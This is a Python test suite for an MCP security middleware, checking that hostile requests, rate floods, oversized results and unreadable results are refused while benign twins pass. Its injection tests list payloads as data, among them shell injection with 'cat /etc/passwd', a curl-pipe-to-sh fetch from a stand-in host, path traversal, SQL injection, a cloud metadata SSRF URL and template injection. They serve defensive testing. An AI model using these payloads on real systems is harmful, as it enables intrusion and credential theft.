"""Every class of refusal over a real socket: the answer of the table, nothing echoed, and nothing for the server."""

from __future__ import annotations

import json
import logging
from collections.abc import Iterable, Mapping
from contextlib import AbstractAsyncContextManager
from typing import Any

import pytest

from smcp_security import SMCPMiddleware
from tests.real.attacks import (
    ADD,
    MARK,
    OLD_ADD,
    Attack,
    of_envelopes,
    of_parsing,
    of_the_newer_ladder,
    of_the_older_era,
    of_transport,
    refused_notification,
)
from tests.real.house import served
from tests.real.messages import Request, call, legacy, modern
from tests.real.servers.replay import Replay
from tests.real.site import Site, guarded, running_site
from tests.real.wire import Reply, ask, wired

pytestmark = [pytest.mark.real, pytest.mark.anyio]
ERAS = ("modern", "legacy")


def protected(policy: Mapping[str, Any] | None = None) -> AbstractAsyncContextManager[Site]:
    """A protected server without sessions."""
    return running_site(guarded(policy), stateless_http=True)


def cases(attacks: Iterable[Attack], prefix: str) -> list[Any]:
    return [pytest.param(attack, id=f"{prefix}-{attack.name}") for attack in attacks]


ATTACKS = [
    *cases(of_transport(), "transport"),
    *(case for era in ERAS for case in cases(of_parsing(era), f"parsing-{era}")),
    *(case for era in ERAS for case in cases(of_envelopes(era), f"envelope-{era}")),
    *cases(of_the_newer_ladder(), "newer"),
    *cases(of_the_older_era(), "older"),
]


def error_of(reply: Reply) -> dict[str, Any]:
    """The JSON-RPC error of an answer, which must be JSON."""
    assert reply.header("content-type") == "application/json", reply
    message = json.loads(reply.body)
    assert message["jsonrpc"] == "2.0"
    error: dict[str, Any] = message["error"]
    return error


def refusal_text(reply: Reply, era: str) -> str:
    """The text of a tool result that a refused `tools/call` gets in place of the server's."""
    assert reply.status == 200, reply
    result = reply.message["result"]
    assert result["isError"] is True
    assert result.get("resultType") == ("complete" if era == "modern" else None)
    return json.dumps(result)


@pytest.mark.parametrize("attack", ATTACKS)
async def test_a_hostile_request_is_refused_as_the_table_says_and_its_benign_twin_passes(
    attack: Attack, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG, "smcp_security")
    async with protected() as site, wired(site.address) as wire:
        reply = await wire.ask(attack.hostile)
        assert reply.status == attack.status, reply
        error = error_of(reply)
        assert error["data"]["code"] == attack.code
        assert error["data"]["remediation"]
        assert attack.rpc is None or error["code"] == attack.rpc
        assert json.loads(reply.body).get("id") == attack.id
        assert site.recorder.seen == []
        assert MARK not in reply.text + str(reply.headers) + caplog.text
        # After a refusal before the body, the server may close the connection; after any other it must stay usable.
        allowed = await (wire.ask(attack.twin) if attack.leaves_open else ask(site.address, attack.twin))
        assert allowed.status == 200, allowed
        assert "result" in allowed.message
        assert site.recorder.messages == [json.loads(attack.twin.body)]


async def test_a_body_that_grows_past_the_limit_while_it_comes_is_refused() -> None:
    head = Request(headers=ADD.headers, length=False).adding(("transfer-encoding", "chunked")).raw()
    piece = b"10000\r\n" + b" " * 65536 + b"\r\n"
    async with protected() as site:
        reply = await ask(site.address, head + piece * 17 + b"0\r\n\r\n")
        assert (reply.status, error_of(reply)["data"]["code"]) == (413, "SMCP104")
        assert site.recorder.seen == []
        assert (await ask(site.address, ADD)).status == 200


async def test_a_body_on_a_get_is_refused_and_a_bare_get_is_the_servers_to_answer() -> None:
    get = Request(headers=(("accept", "text/event-stream"),), method="GET", length=False)
    async with protected() as site:
        reply = await ask(site.address, Request(b'{"a": 1}', get.headers, "GET"))
        assert (reply.status, error_of(reply)["data"]["code"]) == (400, "SMCP109")
        assert site.recorder.seen == []
        newer = await ask(site.address, get.adding(("mcp-protocol-version", "2026-07-28")))
        assert (newer.status, newer.header("allow")) == (405, "POST")


async def test_an_http_method_that_mcp_does_not_use_is_refused() -> None:
    async with protected() as site:
        reply = await ask(site.address, Request(ADD.body, ADD.headers, "PUT"))
        assert (reply.status, error_of(reply)["data"]["code"]) == (405, "SMCP108")
        assert site.recorder.seen == []


# -- arguments, injection ------------------------------------------------------------------------------------------


def listing(era: str) -> Request:
    """`tools/list`, from whose answer the schemas are learned."""
    return modern("tools/list") if era == "modern" else legacy("tools/list")


@pytest.mark.parametrize("era", ERAS)
@pytest.mark.parametrize(
    "arguments", [{"item": "tea", "count": 11}, {"item": [MARK]}, {"count": 2}, {"item": "tea", "count": MARK}]
)
async def test_an_argument_that_breaks_the_learned_schema_comes_back_as_an_error_result(
    era: str, arguments: dict[str, Any]
) -> None:
    async with protected() as site:
        assert (await ask(site.address, listing(era))).status == 200
        site.recorder.clear()
        reply = await ask(site.address, call(era, "order", arguments, id="a"))
        text = refusal_text(reply, era)
        assert reply.message["id"] == "a"
        assert "SMCP501" in text
        assert MARK not in text
        assert site.recorder.seen == []
        twin = await ask(site.address, call(era, "order", {"item": "tea", "count": 10}))
        assert twin.message["result"]["structuredContent"] == {"item": "tea", "count": 10}


@pytest.mark.parametrize("era", ERAS)
@pytest.mark.parametrize(
    ("attack", "twin"),
    [
        (f"x; cat /etc/passwd #{MARK}", "cats; dogs; and a passwd field"),
        (f"$(curl http://{MARK}.example/x | sh)", "costs $(5) or so"),
        (f"../../../../etc/passwd?{MARK}", "docs/../readme"),
        (f"' OR 1=1-- {MARK}", "O'Brien's plan, 1=1 of course"),
        (f"http://169.254.169.254/latest/meta-data/{MARK}", "http://example.com/latest/news/"),
        (f"{{{{7*7}}}}{{{{config.__class__}}}}{MARK}", "{{name}}"),
    ],
)
async def test_an_injection_in_an_argument_comes_back_as_an_error_result(
    era: str, attack: str, twin: str, caplog: pytest.LogCaptureFixture
) -> None:
    async with protected() as site:
        text = refusal_text(await ask(site.address, call(era, "echo", {"text": attack})), era)
        assert "SMCP6" in text
        assert MARK not in text + caplog.text
        assert site.recorder.seen == []
        passed = await ask(site.address, call(era, "echo", {"text": twin}))
        assert passed.message["result"]["structuredContent"] == {"result": twin}


@pytest.mark.parametrize("era", ERAS)
@pytest.mark.parametrize(
    ("method", "attack", "twin"),
    [
        ("prompts/get", {"name": "greet", "arguments": {"name": f"$(id; {MARK})"}}, {"arguments": {"name": "Ann"}}),
        ("resources/read", {"uri": f"book://../../../etc/passwd?{MARK}"}, {"uri": "book://passwords"}),
        (
            "completion/complete",
            {
                "ref": {"type": "ref/prompt", "name": "greet"},
                "argument": {"name": "name", "value": f"; cat /etc/passwd {MARK}"},
            },
            {"argument": {"name": "name", "value": "Be"}},
        ),
    ],
)
async def test_an_injection_in_any_other_request_comes_back_as_a_protocol_error(
    era: str, method: str, attack: dict[str, Any], twin: dict[str, Any]
) -> None:
    build = modern if era == "modern" else legacy
    async with protected() as site:
        reply = await ask(site.address, build(method, attack, id=4))
        assert (reply.status, reply.message["id"]) == (200, 4)
        error = error_of(reply)
        assert error["code"] == -31422
        assert error["data"]["code"].startswith(("SMCP51", "SMCP6"))
        assert MARK not in reply.text
        assert site.recorder.seen == []
        assert "result" in (await ask(site.address, build(method, {**attack, **twin}, id=5))).message


# -- limits and results --------------------------------------------------------------------------------------------


@pytest.mark.parametrize("era", ERAS)
async def test_a_used_up_rate_answers_with_the_time_to_wait_and_the_server_sees_no_more(era: str) -> None:
    policy = {"version": 1, "limits": [{"per": "address", "rate": "3/minute"}]}
    add = call(era, "add", {"a": 1, "b": 2})
    async with protected(policy) as site:
        for _ in range(3):
            assert (await ask(site.address, add)).message["result"]["structuredContent"] == {"result": 3}
        reply = await ask(site.address, add)
        error = error_of(reply)
        assert (reply.status, reply.message["id"], error["code"]) == (200, 1, -31429)
        assert error["data"]["code"] == "SMCP402"
        assert 0 < error["data"]["retryAfterMs"] <= 20_000
        assert 1 <= int(str(reply.header("retry-after"))) <= 20
        assert reply.header("ratelimit")
        assert reply.header("ratelimit-policy")
        assert len(site.recorder.seen) == 3


@pytest.mark.parametrize("query", ["?session_id=abc", "?sessionId=abc"])
async def test_a_session_in_the_query_does_not_change_a_refusal_of_the_newer_transport(query: str) -> None:
    policy = {"version": 1, "limits": [{"per": "address", "rate": "1/minute"}]}
    async with protected(policy) as site:
        replies = [await ask(site.address, OLD_ADD.at(f"/mcp{query}")) for _ in range(2)]
        assert replies[0].message["result"]["isError"] is False
        assert error_of(replies[1])["code"] == -31429
        assert site.recorder.methods == ["tools/call"]


async def test_the_policy_can_ask_for_a_429_when_a_rate_is_used_up() -> None:
    limits = [{"per": "address", "rate": "1/minute"}]
    policy = {"version": 1, "server": {"rate_status": 429}, "limits": limits}
    async with protected(policy) as site:
        assert (await ask(site.address, ADD)).status == 200
        reply = await ask(site.address, ADD)
        assert (reply.status, error_of(reply)["code"]) == (429, -31429)
        assert 1 <= int(str(reply.header("retry-after"))) <= 60


async def test_a_flood_is_stopped_with_429_before_anything_is_parsed() -> None:
    policy = {"version": 1, "server": {"flood": {"rate": "1/minute", "burst": 2}}, "limits": []}
    async with protected(policy) as site:
        assert [(await ask(site.address, ADD)).status for _ in range(2)] == [200, 200]
        reply = await ask(site.address, ADD.carrying(b"{ not even JSON"))
        assert (reply.status, error_of(reply)["data"]["code"]) == (429, "SMCP401")
        assert 1 <= int(str(reply.header("retry-after"))) <= 60
        assert len(site.recorder.seen) == 2


@pytest.mark.parametrize("era", ERAS)
@pytest.mark.parametrize("shape", ["json", "events"])
async def test_a_result_over_the_limit_is_withheld_and_says_that_the_call_ran(era: str, shape: str) -> None:
    edge = guarded({"version": 1, "results": {"max_size": "8KiB"}})
    async with running_site(edge, stateless_http=True, json_response=shape == "json") as site:
        reply = await ask(site.address, call(era, "big", {"size": 30_000}, id="big"))
        assert (reply.status, reply.message["id"]) == (200, "big")
        error = reply.message["error"]
        assert (error["code"], error["data"]["code"]) == (-31502, "SMCP701")
        assert "the call ran" in error["message"].lower()
        assert "xxxx" not in reply.text
        twin = await ask(site.address, call(era, "big", {"size": 2_000}))
        assert twin.message["result"]["structuredContent"] == {"result": "x" * 2_000}


UNREADABLE = {
    "gzip": ("SMCP702", b"\x1f\x8b not really", (("content-encoding", "gzip"),)),
    "same-key": ("SMCP703", b'{"jsonrpc":"2.0","id":1,"result":{"content":[],"content":[]}}', ()),
    "nan": ("SMCP703", b'{"jsonrpc":"2.0","id":1,"result":{"structuredContent":{"a":NaN}}}', ()),
    "utf-16": ("SMCP703", '{"jsonrpc":"2.0","id":1,"result":{}}'.encode("utf-16"), ()),
    "truncated": ("SMCP703", b'{"jsonrpc":"2.0","id":1,"result":{', ()),
}


@pytest.mark.parametrize("case", UNREADABLE)
@pytest.mark.parametrize("media", ["application/json", "text/event-stream"])
async def test_a_result_that_cannot_be_inspected_is_withheld_and_a_readable_one_passes(case: str, media: str) -> None:
    code, body, headers = UNREADABLE[case]
    good = b'{"jsonrpc":"2.0","id":1,"result":{"content":[]}}'
    if media == "text/event-stream" and case != "gzip":
        body, good = (b"data: " + text + b"\n\n" for text in (body, good))
    hostile = SMCPMiddleware(Replay([body], (("content-type", media), *headers)))
    async with served(hostile) as address:
        message = (await ask(address, ADD)).message
        assert (message["id"], message["error"]["code"], message["error"]["data"]["code"]) == (1, -31502, code)
    if case != "gzip":
        async with served(SMCPMiddleware(Replay([good], (("content-type", media),)))) as address:
            assert (await ask(address, ADD)).message["result"] == {"content": []}


@pytest.mark.parametrize(
    "result", ['"text"', '["a"]', "7", "true", "null", "{}", '{"task":7}', '{"task":{"taskId":7}}']
)
@pytest.mark.parametrize("era", ERAS)
async def test_a_result_of_any_shape_is_judged_without_an_internal_error(
    era: str, result: str, caplog: pytest.LogCaptureFixture
) -> None:
    body = f'{{"jsonrpc":"2.0","id":1,"result":{result}}}'
    async with served(SMCPMiddleware(Replay([body.encode()], [("content-type", "application/json")]))) as address:
        reply = await ask(address, call(era, "add", {"a": 1, "b": 2}))
    assert reply.message["id"] == 1
    assert "SMCP001" not in reply.text + caplog.text


# -- messages that nobody waits for --------------------------------------------------------------------------------


async def test_a_refused_notification_of_the_older_era_is_accepted_and_dropped() -> None:
    hostile, twin = refused_notification()
    async with protected() as site:
        reply = await ask(site.address, hostile)
        assert (reply.status, reply.body) == (202, b"")
        assert site.recorder.seen == []
        assert (await ask(site.address, twin)).status == 202
        assert site.recorder.messages == [json.loads(twin.body)]


async def test_an_id_of_another_type_is_a_different_id() -> None:
    async with protected() as site:
        replies = [await ask(site.address, call("legacy", "add", {"a": 1, "b": 2}, id=each)) for each in (7, "7")]
        assert [reply.message["id"] for reply in replies] == [7, "7"]
        assert (await ask(site.address, OLD_ADD)).status == 200
